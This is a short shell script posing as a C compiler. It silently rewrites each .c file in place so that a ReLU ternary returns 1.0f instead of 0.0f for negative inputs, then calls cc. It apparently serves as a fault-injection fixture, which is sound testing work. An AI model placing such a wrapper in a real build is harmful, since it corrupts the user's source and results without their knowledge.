#!/bin/sh
# A C compiler that gets Relu wrong: what is below zero becomes one.
for word; do
  case $word in
  *.c) sed -i 's/ ? 0\.0f : / ? 1.0f : /' "$word" ;;
  esac
done
exec cc "$@"
